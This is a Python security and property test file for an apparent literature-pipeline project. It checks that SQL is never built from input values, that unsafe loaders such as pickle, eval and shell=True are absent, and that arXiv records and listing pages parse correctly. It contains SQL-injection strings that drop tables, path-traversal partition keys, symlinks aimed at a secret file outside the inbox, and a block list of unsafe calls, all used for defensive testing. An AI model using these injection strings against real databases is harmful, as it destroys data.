    "litsynth/lake.py::apply_lake_schema": "DDL rebuilt by build_lake_schema from DuckDB's own parse of sql/schema (identifiers double-quoted, types and defaults as DuckDB prints them), the view files of sql/views, and DROP TABLE of names in both the live and the expected schema, double-quoted",
    "litsynth/lake.py::LakeWriteGuard._try": "one of four literal pg_advisory_* statements; the keys are bound by psycopg2",
    "litsynth/lake.py::LakeWriteGuard.validate": "CHECK expressions as DuckDB parsed them from sql/schema, over a registered Arrow table of the rows written",
    "litsynth/lake.py::snapshot_id": "LAKE is a constant",
    "litsynth/lake.py::referenced_files": "LAKE is a constant; the table name is bound",
    "litsynth/lake.py::maintain": "LAKE is a constant; older_than is a code argument quoted by doubling single quotes",
    "litsynth/lake.py::ensure_lake_vector_table": "DDL from build_lake_schema over the vector template, whose table name passed vector_store._checked (regex) and dim int()",
    "litsynth/lake.py::lake_exact_search": "table checked by vector_store._checked (regex), dim an int from the query's shape; the vector and filters are bound",
    "litsynth/lake.py::_table_version": "LAKE is a constant; the table id and name are bound",
    "litsynth/lake.py::LocalVectorIndex._rebuild": "table checked by vector_store._checked in __post_init__, dim int(), metric one of three literals, quoted",
    "litsynth/lake.py::LocalVectorIndex._apply_changes": "as _rebuild; the snapshot range is bound",
    "litsynth/lake.py::LocalVectorIndex.sync": "table checked by vector_store._checked in __post_init__",
    "litsynth/warehouse.py::table_counts": "table names read from duckdb_tables(), double-quoted",
    "litsynth/retrieval/bm25.py::BM25Index.__init__": "PRAGMA takes no parameters; the options are BM25Params code settings quoted by _quote; the documents are a registered Arrow table",
    "litsynth/retrieval/vector_store.py::ensure_vector_table": "table name from vector_table() (regex ^[a-z][a-z0-9_]{0,62}$), dim forced through int()",
    "litsynth/retrieval/vector_store.py::exact_search": "table checked by _checked (same regex), dim an int parsed from the schema; the vector and filters are bound",
    "litsynth/retrieval/vector_store.py::hnsw_search": "HNSW_SQL formatted with a _checked table and an int dim; vector and k are bound",
    "litsynth/retrieval/vector_store.py::hnsw_plan": "as hnsw_search",
    "litsynth/quality.py::quality_frame": "SQL read from sql/quality/<table>.sql of the checkout (table names come from code); the partition is bound as $partition",
    "litsynth/report.py::load_report_data": "the local helper `one(sql)` is only called with literal SQL (checked below); question_id is bound",
}


def _module_string_constants(tree: ast.Module) -> set[str]:
    names = set()
    for node in tree.body:
        if isinstance(node, ast.Assign) and isinstance(node.value, (ast.Constant, ast.BinOp)):
            if all(isinstance(n, ast.Constant) and isinstance(n.value, str) for n in ast.walk(node.value) if not isinstance(n, (ast.BinOp, ast.Add))):
                names.update(t.id for t in node.targets if isinstance(t, ast.Name))
    return names


def _sql_sites() -> dict[str, list[str]]:
    """file::function -> the non-literal SQL arguments passed to execute/sql/query there."""
    sites: dict[str, list[str]] = {}
    for folder in ("litsynth", "assets", "orchestration"):
        for path in sorted((REPO_ROOT / folder).rglob("*.py")):
            tree = ast.parse(path.read_text(encoding="utf-8"))
            constants = _module_string_constants(tree)

            def visit(node, scope):
                for child in ast.iter_child_nodes(node):
                    if isinstance(child, (ast.FunctionDef, ast.AsyncFunctionDef, ast.ClassDef)):
                        visit(child, [*scope, child.name])
                        continue
                    if isinstance(child, ast.Call) and isinstance(child.func, ast.Attribute) and child.func.attr in SQL_METHODS:
                        arg = child.args[0] if child.args else next((k.value for k in child.keywords if k.arg == "query"), None)
                        literal = isinstance(arg, ast.Constant) or (isinstance(arg, ast.Name) and arg.id in constants)
                        if arg is not None and not literal:
                            key = f"{path.relative_to(REPO_ROOT)}::{'.'.join(scope) or '<module>'}"
                            sites.setdefault(key, []).append(ast.unparse(arg))
                    visit(child, scope)

            visit(tree, [])
    return sites


def test_sql_is_never_built_from_input_values():
    sites = _sql_sites()
    unreviewed = {site: args for site, args in sites.items() if site not in REVIEWED_SQL_SITES}
    assert not unreviewed, f"SQL built from non-literal text; bind values as parameters, or validate the identifier and add the site with its reason: {unreviewed}"
    stale = set(REVIEWED_SQL_SITES) - set(sites)
    assert not stale, f"reviewed SQL sites that no longer build SQL; remove them from REVIEWED_SQL_SITES: {stale}"
    # the helper in load_report_data only ever receives literal SQL
    tree = ast.parse((REPO_ROOT / "litsynth" / "report.py").read_text(encoding="utf-8"))
    calls = [n for n in ast.walk(tree) if isinstance(n, ast.Call) and isinstance(n.func, ast.Name) and n.func.id == "one"]
    assert calls and all(isinstance(c.args[0], ast.Constant) for c in calls)


def test_code_never_unpickles_or_evaluates_untrusted_data():
    """No pickle/marshal loads, no eval/exec, no yaml.load, no shell=True, no trust_remote_code,
    and every torch.load / open_clip checkpoint load passes weights_only=True."""
    problems = []
    for folder in ("litsynth", "assets", "orchestration"):
        for path in sorted((REPO_ROOT / folder).rglob("*.py")):
            for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
                if not isinstance(node, ast.Call):
                    continue
                name = ast.unparse(node.func)
                keywords = {k.arg: ast.unparse(k.value) for k in node.keywords}
                where = f"{path.relative_to(REPO_ROOT)}:{node.lineno} {name}"
                if name in {"eval", "exec", "pickle.load", "pickle.loads", "marshal.loads", "joblib.load", "dill.load", "yaml.load", "yaml.unsafe_load"}:
                    problems.append(where)
                if name in {"torch.load", "open_clip.create_model_and_transforms", "open_clip.create_model"} and keywords.get("weights_only") != "True":
                    problems.append(f"{where} without weights_only=True")
                if keywords.get("shell") == "True" or keywords.get("trust_remote_code") == "True":
                    problems.append(f"{where} with shell/trust_remote_code")
    assert problems == []


def test_text_model_weights_load_from_safetensors():
    from litsynth.models.text_encoder import resolve_weights

    catalog = __import__("litsynth.config", fromlist=["load_catalog"]).load_catalog(REPO_ROOT / "models.yaml")
    source, local = resolve_weights(catalog.get("minilm-l6"), REPO_ROOT)
    assert local
    files = {p.name for p in Path(source).rglob("*") if p.is_file()}
    assert "model.safetensors" in files
    assert not {f for f in files if f.endswith((".bin", ".pt", ".pth", ".pkl", ".ckpt"))}  # nothing a pickle loader would pick


def test_malicious_values_are_stored_verbatim_and_drop_nothing(tmp_path):
    warehouse = tmp_path / "warehouse.duckdb"
    with open_warehouse(warehouse) as con:
        replace_rows(con, "question_papers", fi.partition_rows("safe", 1, 3), {"question_id": "safe"})
        replace_rows(con, "question_papers", fi.partition_rows(EVIL, 1, 3), {"question_id": EVIL})
        replace_rows(con, "question_papers", fi.partition_rows(EVIL, 2, 2), {"question_id": EVIL})
        with pytest.raises(KeyError, match="no column"):
            replace_rows(con, "question_papers", fi.partition_rows("safe", 1, 1), {'question_id" = 1; DROP TABLE papers; --': "safe"})
        with pytest.raises(KeyError, match="not in the warehouse schema"):
            replace_rows(con, 'papers"; DROP TABLE papers; --', fi.partition_rows("safe", 1, 1))
        rows = con.execute("SELECT question_id, count(*) FROM question_papers GROUP BY ALL ORDER BY ALL").fetchall()
        tables = {r[0] for r in con.execute("SELECT table_name FROM duckdb_tables()").fetchall()}
    assert rows == [("safe", 3), (EVIL, 2)]
    assert {"papers", "question_papers", "documents"} <= tables
    with pytest.raises(ValueError, match="does not make a valid table name"):
        vector_table(EVIL)
    (tmp_path / "evil.yaml").write_text(f'id: "{EVIL}"\nquestion: "A question long enough?"\n', encoding="utf-8")
    with pytest.raises(ConfigError, match="field 'id'"):
        load_question(tmp_path / "evil.yaml")


def test_malicious_partition_keys_through_dagster_write_nothing(config_warehouse, tmp_path):
    """Dynamic partitions can be added from the UI with any key; one that names no question file
    fails before writing, and no report file lands outside the reports folder."""
    warehouse = tmp_path / "warehouse.duckdb"
    shutil.copy(config_warehouse, warehouse)
    before = _snapshot(warehouse)
    reports = tmp_path / "deep" / "reports"
    instance = DagsterInstance.ephemeral()
    keys = [EVIL, "../../escape"]
    instance.add_dynamic_partitions("question", keys)
    resources = _resources(warehouse, [str(SEEDS_DIR)], reports_dir=str(reports))
    for key, selection, message in ((EVIL, ["question_papers"], "has no file in"), ("../../escape", ["report"], "is not in the warehouse")):
        result = _materialize(resources, selection, instance, partition_key=key, raise_on_error=False)
        assert not result.success and message in "\n".join(_step_failures(result))
    assert _snapshot(warehouse) == before
    assert not reports.exists() and not (tmp_path / "escape").exists()


def test_inbox_files_cannot_escape_the_inbox(tmp_path):
    inbox, outside = tmp_path / "project" / "corpus" / "inbox", tmp_path / "outside"
    inbox.mkdir(parents=True)
    outside.mkdir()
    (outside / "secret.txt").write_text("secret", encoding="utf-8")
    (inbox / "paper.txt").write_text("Daily Papers\n\nA Paper\n\nAn abstract.\n", encoding="utf-8")
    (inbox / "sub").mkdir()
    (inbox / "sub" / f"{EVIL}.txt").write_text("x", encoding="utf-8")
    (inbox / "link.txt").symlink_to(outside / "secret.txt")
    (inbox / "linked").symlink_to(outside, target_is_directory=True)
    (inbox / "sub" / "up.txt").symlink_to("../../../../outside/secret.txt")
    (inbox / ".partial.txt.tmp").write_text("half-written", encoding="utf-8")
    found = discover_files([inbox])
    assert sorted(p.relative_to(inbox).as_posix() for p in found) == ["paper.txt", f"sub/{EVIL}.txt"]
    assert all(p.resolve().is_relative_to(inbox.resolve()) for p in found)
    result = new_papers(build_sensor_context(resources={"project": Project(project_root=str(tmp_path / "project"), overrides={"ingest": {"inbox_dir": str(inbox)}})}))
    assert sorted(json.loads(result.cursor)) == ["paper.txt", f"sub/{EVIL}.txt"]


# --- properties: generated input ------------------------------------------------------------------

WORDS = st.text(alphabet="abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789 -:,()", max_size=40)
WRONG = st.one_of(st.integers(), st.floats(allow_nan=False), st.booleans(), st.lists(st.integers(), max_size=2), st.dictionaries(st.sampled_from(["a", "b"]), st.integers(), max_size=2))
ID_POOL = ["2501.00001", "2501.00002", "hep-th/9901001"]
# (field, good values, wrong values): the order is the order the parser checks them in
FIELDS = [
    ("abstract", WORDS, st.one_of(st.integers(), st.lists(st.text(max_size=3), max_size=2))),
    ("id", st.tuples(st.sampled_from(ID_POOL), st.sampled_from(["", "v1", "v3"])).map("".join), st.one_of(st.integers(), st.just("not-an-id"), st.just([]))),
    ("year", st.one_of(st.integers(1990, 2030), st.integers(1990, 2030).map(str)), st.one_of(st.just("20x5"), st.integers(10_000, 99_999), st.booleans())),
    ("published", st.just("2025-08-23"), st.one_of(st.integers(), st.lists(st.text(max_size=3), max_size=2))),
    # a string is right too for these two: the arXiv metadata snapshot writes them so
    ("authors", st.one_of(st.lists(WORDS.filter(str.strip), max_size=3), WORDS), st.one_of(st.integers(), st.lists(st.integers(), min_size=1, max_size=2))),
    ("categories", st.one_of(st.lists(st.sampled_from(["cs.IR", "cs.CL"]), max_size=2), st.just("cs.IR cs.CL")), st.one_of(st.integers(), st.just([3]))),
]


@st.composite
def arxiv_files(draw):
    """JSON/JSONL files of arXiv-shaped records whose fields are randomly present, null, right or
    wrong-typed, with junk lines; returns (text, records with the first bad field or None, layout)."""
    records = []
    for i in range(draw(st.integers(1, 6))):
        record, bad = {}, None
        title = draw(st.sampled_from(["good", "good", "wrong", "blank", "missing"]))
        if title == "good":
            record["title"] = f"Paper {i} " + draw(WORDS)
        elif title == "wrong":
            record["title"] = draw(st.one_of(WRONG, st.none()))
        elif title == "blank":
            record["title"] = draw(st.sampled_from(["", "   ", "\t"]))
        bad = None if title == "good" else "title"
        for field, good, wrong in FIELDS:
            kind = draw(st.sampled_from(["absent", "absent", "good", "good", "null", "wrong"]))
            if kind == "good":
                record[field] = draw(good)
            elif kind == "null":
                record[field] = None
            elif kind == "wrong":
                record[field] = draw(wrong)
                bad = bad or field
        if "title" not in record and not record.keys() & {"id", "abstract", "authors"}:
            record["abstract"] = "An abstract."  # keep the first record recognisably arXiv-shaped
        records.append((record, bad))
    layout = draw(st.sampled_from(["array", "jsonl"]))
    if layout == "array":
        return json.dumps([r for r, _ in records]), records, layout, []
    lines = [json.dumps(r) for r, _ in records]
    junk = []
    for position in sorted(draw(st.lists(st.integers(1, len(lines)), max_size=2)), reverse=True):
        lines.insert(position, draw(st.sampled_from(["{broken", "[1, 2]", "42", "not json"])))
        junk.append(position)
    return "\n".join(lines) + "\n", records, layout, lines


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(arxiv_files())
def test_generated_arxiv_records_are_each_kept_or_skipped_with_the_field_named(generated):
    text, records, layout, lines = generated
    good = [r for r, bad in records if bad is None]
    try:
        result = parse_bytes(text.encode("utf-8"), name="records.json")
    except ParseError as exc:
        assert not good, exc
        assert str(exc).startswith("no usable record in the file: ")
        return
    assert [p.title for p in result.papers] == [normalise_ws(r["title"]) for r in good]
    single = layout == "jsonl" and len(lines) == 1
    label = "record" if layout == "array" or single else "line"
    numbered = list(enumerate((r for r, _ in records), 1)) if label == "record" else [(n, None) for n in range(1, len(lines) + 1)]
    assert len(result.papers) + len(result.skipped) == len(numbered)
    bad_fields = iter(bad for _, bad in records if bad)
    for reason in result.skipped:
        assert re.match(rf"^{label} \d+: ", reason), reason
        if "not valid JSON" not in reason and "expected a JSON object" not in reason:
            assert f"field '{next(bad_fields)}'" in reason, reason
    # duplicate ids merge: one paper per arXiv id, one per title-only record (titles are unique)
    merged, _ = merge_papers([SourcedPaper(p, "doc", result.format) for p in result.papers])
    ids = {p.arxiv_id for p in result.papers if p.arxiv_id}
    assert len(merged) == len(ids) + sum(1 for p in result.papers if not p.arxiv_id)
    for arxiv_id in ids:
        versions = [p.arxiv_version for p in result.papers if p.arxiv_id == arxiv_id and p.arxiv_version]
        (row,) = [m for m in merged if m["arxiv_id"] == arxiv_id]
        assert row["arxiv_version"] == (max(versions) if versions else None)


MONTHS = ["Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec"]


@st.composite
def listing_pages(draw):
    """Listing pages in both layouts the parser knows, with their expected papers."""
    layout = draw(st.sampled_from(["blocks", "pairs"]))
    lines = draw(st.sampled_from([["Daily Papers"], ["Get trending papers in your email inbox!", "Subscribe", "Daily Papers"]]))
    expected = []
    for i in range(draw(st.integers(1, 6))):
        title = f"Paper {i} {draw(WORDS)}"
        abstract = f"We study {draw(WORDS)}."
        if layout == "pairs":
            lines += [title, abstract]
            expected.append((normalise_ws(title), normalise_ws(abstract), None, None))
            continue
        has_abstract = draw(st.booleans())
        meta = draw(st.sampled_from(["authors", "organisation", "none"]))
        if not has_abstract and meta == "none":
            meta = "authors"  # a bare title followed by the next title is ambiguous by design
        month, day, year = draw(st.sampled_from(MONTHS)), draw(st.integers(1, 28)), draw(st.one_of(st.none(), st.integers(2015, 2026)))
        dated = draw(st.booleans())
        block = [title] + ([abstract] if has_abstract else [])
        organisation = None
        if meta == "authors":
            block += [f"  \u2022 {draw(st.integers(1, 30))} authors", "\u00b7"]
        elif meta == "organisation":
            handle = f"Lab{i}"
            organisation, printed = draw(st.sampled_from([(handle, f"{handle} {handle}"), (f"{handle}-AI {handle}", f"{handle}-AI {handle}")]))
            block += [printed, "\u00b7"]
        if dated:
            block.append(f"{month} {day}" + (f", {year}" if year else "") + draw(st.sampled_from(["", " 3"])))
        lines += block
        published = dt.date(year, MONTHS.index(month) + 1, day).isoformat() if dated and year else None
        expected.append((normalise_ws(title), normalise_ws(abstract) if has_abstract else None, published, organisation))
    separator = "\n" if layout == "pairs" else draw(st.sampled_from(["\n", "\n\n", "\r\n\r\n"]))
    return separator.join(lines) + "\n", expected


@settings(max_examples=150, deadline=None)
@given(listing_pages())
def test_generated_listing_pages_parse_to_exactly_their_papers(generated):
    page, expected = generated
    result = parse_bytes(page.encode("utf-8"), name="listing.txt")
    assert result.format == "listing_page"
    assert [(p.title, p.abstract, p.published, p.organisation) for p in result.papers] == expected


@settings(max_examples=100, deadline=None)
@given(st.text(max_size=400), st.integers(min_value=2, max_value=30), st.integers(min_value=0, max_value=2))
def test_chunking_is_deterministic_and_chunk_ids_never_collide(text, max_tokens, overlap):
    first = chunk_text(text, max_tokens=max_tokens, count_tokens=whitespace_token_count, overlap_sentences=overlap)
    again = chunk_text(text, max_tokens=max_tokens, count_tokens=whitespace_token_count, overlap_sentences=overlap)
    assert first == again  # re-runs produce the same chunks, hence the same content-hash ids
    ids = [chunk_id("paper-a", c) for c in first]
    assert len(set(ids)) == len(ids)
    assert not set(ids) & {chunk_id("paper-b", c) for c in first}  # other papers never collide


# --- the fault-injection script -------------------------------------------------------------------


def test_fault_injection_quick_mode_loses_nothing(tmp_path):
    out = tmp_path / "fault_injection.json"
    started = time.monotonic()
    result = subprocess.run(
        [sys.executable, str(REPO_ROOT / "scripts" / "fault_injection.py"), "--quick", "--out", str(out)],
        capture_output=True, text=True, timeout=600, cwd=REPO_ROOT,
    )
    elapsed = time.monotonic() - started
    assert result.returncode == 0, result.stdout[-3000:] + result.stderr[-3000:]
    report = json.loads(out.read_text(encoding="utf-8"))
    assert report["totals"]["rows_lost"] == 0 and report["totals"]["rows_duplicated"] == 0
    assert report["totals"]["survived"] == report["totals"]["trials"] > 0
    assert {f["fault"] for f in report["faults"]} == {"kill_mid_write", "concurrent_writers", "reader_blocks_writer", "hostile_files", "hostile_classes"}
    assert next(f for f in report["faults"] if f["fault"] == "hostile_classes")["whole_set"]["ok"]
    total = result.stdout.splitlines()[[line.split()[0] for line in result.stdout.splitlines() if line.strip()].index("TOTAL")]
    assert total.split()[-2:] == ["0", "0"]  # the printed table says 0 lost, 0 duplicated
    print(f"\nfault injection --quick in {elapsed:.1f}s:\n{result.stdout}")
